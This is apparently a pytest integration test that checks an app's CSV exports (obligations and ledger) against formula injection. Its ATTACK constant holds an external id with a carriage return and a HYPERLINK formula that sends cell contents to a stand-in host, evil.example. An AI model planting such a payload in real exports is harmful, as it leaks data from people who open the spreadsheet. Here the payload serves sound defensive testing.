"""A host's external id holding a bare carriage return and a formula, sent through the events
API and exported from /obligations.csv and /ledger.csv over the real app and PostgreSQL:
each export, read with Python's csv module row by row, keeps every record in one row and
no cell, nor any line inside a cell, starts a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from db.events.api_keys import create_api_key
from db.notices.scan import run_scan
from domain.csv_export import FORMULA_STARTS
from tests.integration.portal_support import PASSWORD, People, PortalClient, signed_in
from tocsin.shell.demo_metrology import certificate_event, set_up_metrology

ATTACK = 'CASE-77\r=HYPERLINK("http://evil.example/?leak="&A1,"Open the case")'
ZONE = "Europe/London"


def lines_of(cell: str) -> list[str]:
    return cell.replace("\r\n", "\n").replace("\r", "\n").split("\n")


def read_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.fixture
def exported(portal: PortalClient, people: People) -> Iterator[PortalClient]:
    """Two certificates due in three days (inside their -7 reminder's window), the first
    with the hostile external id, sent by the host through the API; the scan claims both."""
    set_up_metrology(people.tenant.slug, PASSWORD)
    key = create_api_key(people.tenant.slug, "metrology host")[1]
    due = datetime.now(UTC).astimezone(ZoneInfo(ZONE)).date() + timedelta(days=3)
    for external_id in (ATTACK, "CASE-78"):
        event = certificate_event(external_id, f"Scale {external_id[:7]}", "london", "London",
                                  ZONE, due, "tech.london@demo.example")
        response = portal.post("/api/v1/events", json=event, headers={"Authorization": f"Bearer {key}"})
        assert response.status_code == 201, response.text
    run_scan(people.tenant.slug, datetime.now(UTC))
    signed_in(portal, people, people.admin)
    yield portal


def check_rows(text: str, column: str, expected_ids: list[str]) -> list[list[str]]:
    assert "\r\n" in text and text.endswith("\r\n")
    rows = read_rows(text)
    header, body = rows[0], rows[1:]
    width = len(header)
    assert all(len(row) == width for row in body), "a record was split across rows"
    for row in rows:
        for cell in row:
            assert all(not line.startswith(FORMULA_STARTS) for line in lines_of(cell)), cell
    # Column A of every row is the export's own first field, never the attacker's text.
    assert all(not row[0].startswith(("HYPERLINK", "'=", "=")) for row in rows)
    found = sorted(row[header.index(column)] for row in body)
    assert found == sorted(expected_ids)
    return rows


def test_the_obligations_export_keeps_the_carriage_return_inside_its_cell_and_defuses_the_formula(
        exported: PortalClient) -> None:
    response = exported.get("/obligations.csv")
    assert response.status_code == 200
    defused = ATTACK.replace("\r=", "\r'=")
    check_rows(response.text, "external_id", [defused, "CASE-78"])
    assert f'"{defused.replace(chr(34), chr(34) * 2)}"' in response.text  # quoted, as one cell


def test_the_ledger_export_keeps_the_carriage_return_inside_its_cell_and_defuses_the_formula(
        exported: PortalClient) -> None:
    response = exported.get("/ledger.csv")
    assert response.status_code == 200
    rows = read_rows(response.text)
    header = rows[0]
    names = [row[header.index("subject_name")] for row in rows[1:]
             if row[header.index("subject_kind")] == "subject"]
    check_rows(response.text, "subject_name", [row[header.index("subject_name")] for row in rows[1:]])
    # Each certificate's claims (the -30 window skipped, the -7 claimed), one row each.
    assert sorted(set(names)) == [
        ATTACK.replace("\r=", "\r'=") + " · Scale CASE-77", "CASE-78 · Scale CASE-78"]
    assert names.count("CASE-78 · Scale CASE-78") == len(names) // 2
